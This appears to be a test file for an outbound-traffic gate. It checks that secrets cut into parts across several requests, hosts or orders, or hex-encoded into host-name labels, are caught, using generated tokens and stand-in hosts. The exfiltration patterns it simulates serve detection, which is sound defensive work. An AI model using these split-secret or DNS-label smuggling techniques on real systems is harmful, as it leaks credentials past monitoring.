import { createHash } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { TestCa } from '../support/certificates.ts';
import { answered, ask, openTls, type RawClient } from '../support/client.ts';
import { TOKEN_HASH, startGate, type TestGate } from '../support/gate.ts';
import { startOrigin, type Origin } from '../support/origin.ts';
import { fillIn } from '../support/samples.ts';

const HOSTS = ['api.test', 'other.test', 'api.github.com'];
/** Of a domain that is granted whole. */
const WILD = Array.from({ length: 40 }, (_, i) => `${fillIn('{{an:32}}', 900 + i)}.wild.test`);
const STRIPE = fillIn('sk_live_{{AN:48}}', 51);
const WILD_SECRET = Buffer.from(`token ${STRIPE}`).toString('hex');
/** A secret in hexadecimal digits, in labels. */
const SECRET_HOST = `${WILD_SECRET.slice(0, 42)}.${WILD_SECRET.slice(42, 84)}.${WILD_SECRET.slice(84)}.wild.test`;
/** A number that passes for one of a card, and is nobody's example. */
const CARD = ['4929', '7183', '2054', '6671'].join('');
/** Credentials of an agent that is observed. */
const WATCHER = ['token', 'of', 'watcher'].join('-');
const WATCHED = `Proxy-Authorization: Basic ${Buffer.from(`watcher:${WATCHER}`).toString('base64')}\r\n`;
const HALVES = Buffer.from(`token ${fillIn('ghp_{{AN:36}}', 52)}`).toString('hex');
const [HALF, OTHER_HALF] = [`${HALVES.slice(0, 46)}.wild.test`, `${HALVES.slice(46)}.wild.test`] as const;

let ca: TestCa;
let origin: Origin;
let gate: TestGate;
let count = 0;
beforeAll(async () => {
  ca = await TestCa.create();
  origin = await startOrigin({ tls: await ca.leaf([...HOSTS, '*.wild.test', SECRET_HOST]) });
  gate = await startGate({
    rules: {
      'rules.yaml': `version: 1
agents:
  watcher:
    mode: observe
    identity: { token: "sha256:${createHash('sha256').update(WATCHER).digest('hex')}" }
    allow: [ "* https://**.wild.test/**" ]
  bot:
    identity: { token: "${TOKEN_HASH}" }
    allow: [ "* https://api.test/**", "* https://other.test/**", "* https://api.github.com/**", "* https://**.wild.test/**" ]
`,
    },
    pins: [...HOSTS, ...WILD, SECRET_HOST, HALF, OTHER_HALF].map((host) => `${host}:443=127.0.0.1:${origin.port}`),
    upstreamCa: ca.certificate,
  });
});
afterAll(async () => {
  await gate.close();
  await origin.close();
});

/** Sends one request. */
async function send(host: string, target: string, body: unknown = null, fields?: string): Promise<RawClient> {
  if (body === null) {
    const options = fields === undefined ? {} : { fields };
    const client = await ask(gate, `${host}:443`, `GET ${target} HTTP/1.1\r\nHost: ${host}\r\n\r\n`, options);
    await client.close();
    return client;
  }
  const text = typeof body === 'string' ? body : JSON.stringify(body);
  const type = typeof body === 'string' ? 'text/plain' : 'application/json';
  const client = await openTls(gate, `${host}:443`);
  client.send(
    `POST ${target} HTTP/1.1\r\nHost: ${host}\r\nContent-Type: ${type}\r\nContent-Length: ${text.length}\r\n\r\n${text}`,
  );
  await answered(client);
  await client.close();
  return client;
}

/** A secret nobody has seen, in so many parts. */
function parts(number: number): string[] {
  const secret = fillIn('ghp_{{AN:36}}', 600 + ++count);
  const size = Math.ceil(secret.length / number);
  return Array.from({ length: number }, (_, i) => secret.slice(i * size, (i + 1) * size));
}

describe('a secret that is cut up over several requests', () => {
  it.each<readonly [string, (part: string, i: number) => Promise<RawClient>]>([
    ['in a query', (part) => send('api.test', `/collect?d=${part}`)],
    ['in a path', (part) => send('api.test', `/up/${part}`)],
    ['in JSON', (part, i) => send('api.test', '/notes', { id: i, note: part, kind: 'memo' })],
    ['in text', (part) => send('api.test', '/paste', part)],
    ['to two hosts', (part, i) => send(i % 2 === 0 ? 'api.test' : 'other.test', `/x?value=${part}`)],
    [
      'with other requests between',
      async (part) => {
        expect((await send('api.test', `/page?nr=${++count}`)).status).toBe(200);
        return send('api.test', `/between?d2=${part}`);
      },
    ],
  ])('is found by the part that completes it: %s', async (_name, sendPart) => {
    const all = parts(3);
    for (const [i, part] of all.slice(0, -1).entries()) expect((await sendPart(part, i)).status).toBe(200);
    const last = await sendPart(all[2] as string, 2);
    expect(last.reason).toBe('secret-found');
    expect(last.received).toContain('secrets in parts of several requests (github-pat)');
  });

  it('is found where a part stands in a body that is known, for it was sent before', async () => {
    const [one, two] = parts(2) as [string, string];
    const said = async (note: string): Promise<void> =>
      expect((await send('api.test', '/again', { again: note })).status).toBe(200);
    for (let time = 0; time < 4; time++) await said(one);
    // More than are remembered of one place.
    for (let other = 0; other < 13; other++) await said(`another-${other}`);
    await said(one);
    const last = await send('api.test', '/again', { again: two });
    expect(last.received).toContain('secrets in parts of several requests (github-pat)');
  });

  it('is found where the last part comes first', async () => {
    const [one, two, three] = parts(3) as [string, string, string];
    expect((await send('api.test', `/back?r=${three}`)).status).toBe(200);
    expect((await send('api.test', `/back?r=${two}`)).status).toBe(200);
    expect((await send('api.test', `/back?r=${one}`)).reason).toBe('secret-found');
  });

  it('is found where a part hides behind something else that is told of', async () => {
    const [one, two] = parts(2) as [string, string];
    expect((await send('api.test', '/notes', { hint: `card:${CARD}:${one}` })).status).toBe(200);
    await gate.outcome(({ findings }) => findings?.some(({ family }) => family === 'personal-data') === true);
    const last = await send('api.test', '/notes', { hint: two });
    expect(last.received).toContain('secrets in parts of several requests (github-pat)');
  });

  it('is found where a part stands beside a whole secret on its way home', async () => {
    const [one, two] = parts(2) as [string, string];
    const own = fillIn('ghp_{{AN:36}}', 599);
    expect((await send('api.github.com', `/repos?access_token=${own}%20${one}`)).status).toBe(200);
    expect((await send('api.test', `/x?access_token=${two}`)).reason).toBe('secret-found');
  });

  it('is none where each is a whole one at its place, nor where identifiers follow one another', async () => {
    for (let i = 0; i < 5; i++) {
      const whole = parts(1)[0] as string;
      expect((await send('api.github.com', `/repos?access_token=${whole}`)).status).toBe(200);
    }
    for (let i = 0; i < 20; i++)
      expect(
        (
          await send(
            'api.test',
            `/v1/${count}/objects/${fillIn('{{hex:40}}', 700 + i)}?cursor=${fillIn('{{AN:24}}', 800 + i)}`,
          )
        ).status,
      ).toBe(200);
  });
});

describe('the name of a host', () => {
  it('is told of, and passes, for an agent that is observed', async () => {
    const client = await send(SECRET_HOST, '/seen', null, WATCHED);
    expect(client.status).toBe(200);
    const event = await gate.outcome(({ path }) => path === '/seen');
    expect(event).toMatchObject({ decision: 'would-deny', reason: 'secret-found' });
    expect(event.findings).toMatchObject([{ detector: 'stripe-secret-key', where: 'the host', action: 'deny' }]);
  });

  it('is looked at before it is resolved', async () => {
    const client = await send(SECRET_HOST, '/');
    expect(client.reason).toBe('secret-found');
    expect(client.received).toContain('secrets in the host (stripe-secret-key)');
    const event = await gate.outcome(({ host }) => host === SECRET_HOST);
    expect(event.findings).toMatchObject([{ detector: 'stripe-secret-key', where: 'the host', action: 'deny' }]);
  });

  it('is read with those that were asked for before', async () => {
    expect((await send(HALF, '/')).status).toBe(200);
    expect((await send(OTHER_HALF, '/')).reason).toBe('secret-found');
  });

  it('is one of too many that look as if they were made of something else', async () => {
    for (const host of WILD) expect((await send(host, '/')).status).toBe(200);
    const event = await gate.outcome(
      ({ findings }) => findings?.some(({ detector }) => detector === 'encoded-labels') === true,
    );
    expect(event.findings).toMatchObject([
      { detector: 'encoded-labels', action: 'alert', family: 'exfiltration', where: 'the host' },
    ]);
  });
});
